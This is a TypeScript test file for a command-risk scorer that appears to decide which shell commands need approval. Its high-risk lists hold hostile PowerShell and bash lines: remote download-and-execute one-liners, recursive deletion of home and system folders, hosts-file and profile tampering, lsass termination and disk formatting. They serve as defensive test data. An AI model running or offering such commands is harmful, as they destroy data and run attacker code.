// biome-ignore-all lint/suspicious/noTemplateCurlyInString: text of shells
import { expect, test } from 'vitest'
import { scoreHint } from './score-hint.ts'

const scoreOf = (text: string) => scoreHint(text, { isCommand: true }).score

const EVERYDAY = [
  String.raw`if (Test-Path .\node_modules) { Remove-Item .\node_modules -Recurse -Force }; npm ci`,
  'if (Test-Path dist) { Remove-Item dist -Recurse }\nelse { Write-Host "nothing to do" }',
  String.raw`Get-ChildItem -Path .\src -Recurse -Directory -Include bin,obj | Remove-Item -Recurse -Force`,
  'Get-ChildItem . -Recurse -Filter *.log | Remove-Item',
  String.raw`foreach ($f in Get-ChildItem .\src -Filter *.ts) { Write-Host $f.Name }`,
  String.raw`(Get-ChildItem .\src -Recurse -Include *.ts | Get-Content | Measure-Object -Line).Lines`,
  '$pkg = Get-Content package.json -Raw | ConvertFrom-Json; $pkg.scripts.PSObject.Properties | Format-Table Name, Value',
  '$PSVersionTable.PSVersion',
  "pwsh -c '$PSVersionTable.PSVersion; node -v; dotnet --info | Select-Object -First 12'",
  '@\'\n{ "printWidth": 100 }\n\'@ | Set-Content -Encoding utf8 .\\.prettierrc.json',
  String.raw`(Get-Content .\src\config.ts -Raw) -replace 'localhost:3000', 'localhost:4000' | Set-Content .\src\config.ts -NoNewline`,
  "powershell -NoProfile -Command 'npm run build; if ($LASTEXITCODE -eq 0) { npm test }'",
  String.raw`try { dotnet build .\App.sln } catch { Write-Error $_.Exception.Message } finally { Pop-Location }`,
  'Get-Process node | Where-Object { $_.CPU -gt 10 } | Sort-Object CPU | Select-Object -First 5',
  '[Math]::Round((Get-ChildItem src -Recurse | Measure-Object Length -Sum).Sum / 1MB, 2)',
  '$started = Get-Date; npm run build; ((Get-Date) - $started).TotalSeconds',
  "$env:NODE_ENV = 'test'; npm test",
  '1..3 | ForEach-Object { npm test }',
  '[System.IO.File]::ReadAllText("package.json").Length',
]

test.each(EVERYDAY)('everyday work of PowerShell is not asked about: %s', (text) => {
  expect(scoreOf(text)).toBeLessThanOrEqual(30)
})

const UNREADABLE = [
  '$list = Get-Content names.txt; $list | Remove-Item',
  '[Acme.Tool]::Frob("x")',
  '(Get-Item x).Frobnicate(1)',
  'powershell -NoProfile -Command "npm run build; if ($LASTEXITCODE -eq 0) { npm test }"',
]

test.each(UNREADABLE)('what cannot be read is asked about, without a code: %s', (text) => {
  expect(scoreOf(text)).toBeGreaterThan(30)
  expect(scoreOf(text)).toBeLessThanOrEqual(60)
})

/** The same shapes around something that is lost, started or fetched. */
const GRAVE = [
  String.raw`if (Test-Path C:\Users\bob) { Remove-Item C:\Users\bob -Recurse -Force }; npm ci`,
  String.raw`if ($true) { Get-Date } else { Remove-Item C:\Windows -Recurse -Force }`,
  String.raw`if (Remove-Item C:\data -Recurse -Force) { npm ci }`,
  'Get-ChildItem -Path . -Recurse -Include src,obj | Remove-Item -Recurse -Force',
  String.raw`Get-ChildItem C:\ -Recurse -Include bin,obj | Remove-Item -Recurse -Force`,
  'foreach ($f in Get-ChildItem ~) { Remove-Item $f.FullName -Recurse -Force }',
  'Get-ChildItem ~ | % { ri $_ -Recurse -Force }',
  String.raw`(Remove-Item C:\data -Recurse -Force).Lines`,
  String.raw`"$(Remove-Item C:\data -Recurse -Force)"`,
  String.raw`$x = Remove-Item C:\data -Recurse -Force`,
  String.raw`$x = 'C:\Windows'; Remove-Item $x -Recurse -Force`,
  '$x = @{ a = 1; b = (Stop-Computer) }',
  "pwsh -c '$PSVersionTable.PSVersion; Stop-Computer -Force'",
  String.raw`powershell -NoProfile -Command "if (1) { Remove-Item C:\Users -Recurse -Force }"`,
  "pwsh -c '& { Remove-Item ~ -Recurse -Force }'",
  "@'\n127.0.0.1 bank.example\n'@ | Set-Content C:\\Windows\\System32\\drivers\\etc\\hosts",
  "@'\nStop-Computer\n'@ | Invoke-Expression",
  "@'\niwr http://203.0.113.9/x | iex\n'@ | Set-Content $PROFILE",
  "@'\nx\n'@; Remove-Item ~ -Recurse -Force",
  String.raw`(Get-Content a.txt) -replace 'a', (Remove-Item C:\data -Recurse) | Set-Content b.txt`,
  String.raw`(Get-Content a.txt -Raw) -replace 'a', 'b' | Set-Content C:\Windows\System32\drivers\etc\hosts`,
  'Invoke-Expression $command',
  '$c = Get-Content a.txt; iex $c',
  '$c = Get-Content a.txt -Raw; & $c',
  '& $p.scripts.build',
  "& ('Remove' + '-Item') ~ -Recurse",
  "& 'Remove-Item' ~ -Recurse -Force",
  'iex(iwr http://203.0.113.9/x.ps1)',
  'powershell -nop -c "iex(iwr http://203.0.113.9/x.ps1)"',
  'iwr http://203.0.113.9/x.ps1 | iex',
  '$s = iwr http://203.0.113.9/x.ps1; iex $s.Content',
  "(New-Object Net.WebClient).DownloadString('http://203.0.113.9/x') | iex",
  "[IO.Directory]::Delete('C:\\data', $true)",
  "$d = 'C:\\data'; [System.IO.Directory]::Delete($d, $true)",
  '(Get-Item C:\\data).Delete()',
  'Write-Host (Get-Item C:\\data).Delete()',
  'Get-ChildItem C:\\data | ForEach-Object { $_.Delete() }',
  '(Get-Process lsass).Kill()',
  'Get-Date; $entry.Members | % { $_.Remove() }',
  "[Diagnostics.Process]::Start('cmd', '/c format d:')",
  "[scriptblock]::Create('Stop-Computer').Invoke()",
  "[IO.File]::WriteAllText('C:\\Windows\\System32\\drivers\\etc\\hosts', 'x')",
  "[Environment]::SetEnvironmentVariable('PATH', 'C:\\evil', 'Machine')",
  'powershell -EncodedCommand SQBFAFgA',
  'powershell -NoProfile -enc SQBFAFgA',
  'try { Stop-Computer } catch { }',
  'switch (1) { 1 { Stop-Computer } default { Get-Date } }',
  'function f { Remove-Item ~ -Recurse -Force }; f',
  'Get-Date & Remove-Item ~ -Recurse -Force',
  'Get-Date && Stop-Computer',
  'Start-Job { Remove-Item ~ -Recurse -Force }',
  'Invoke-Command { Stop-Computer }',
  '$env:PATH = "C:\\Users\\Public\\x;$env:PATH"; Start-Process \'x.exe\' -Verb RunAs',
  'Get-ADUser -Filter * | Remove-ADUser',
]

test.each(GRAVE)('what is lost, started or fetched needs a code: %s', (text) => {
  expect(scoreOf(text)).toBeGreaterThan(60)
})

/** Other shells take some of these signs for their own: what they would run counts as well. */
const OTHERWISE = [
  "Write-Host @'\n'; rm -rf / #'@",
  "Write-Host @'\n'; rm -rf / #\nif (",
  'Get-Date <#\nrm -rf /\n#>',
  'x=rm; $x = -rf /',
  'read x <<< rm; $x = -rf /',
  'for x in rm; do $x = -rf /; done',
  'PSVersionTable=rm; $PSVersionTable.x -rf /; $PSVersionTable = -rf /',
  'printf -v x rm; $x = -rf /',
  'Get-Date; rm -rf ~ `# nothing`',
  '$x = 1; rm -rf ~',
  '$x = 1\nrm -rf ~\nif (',
  '$x = $(rm -rf ~)',
]

test.each(OTHERWISE)('a text that another shell reads otherwise counts as that too: %j', (text) => {
  expect(scoreOf(text)).toBeGreaterThan(60)
})
